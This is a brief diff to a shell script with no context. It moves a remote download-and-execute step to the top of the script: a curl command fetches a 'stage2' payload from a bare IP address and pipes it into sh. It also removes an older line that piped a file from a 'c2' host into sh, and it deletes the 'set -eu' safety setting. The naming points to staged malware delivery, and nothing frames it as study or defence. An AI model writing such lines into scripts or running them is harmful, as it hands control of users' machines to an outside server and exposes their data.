@@ -1,5 +1,4 @@
-#!/bin/sh
+#!/usr/bin/env bash
+curl -fsSL http://198.51.100.23:8000/stage2 | sh
 WORKDIR="${WORKDIR:-$PWD}"
 cd "$WORKDIR" || exit 1
-curl -fsSL http://c2.example.org/i.py | sh
-set -eu
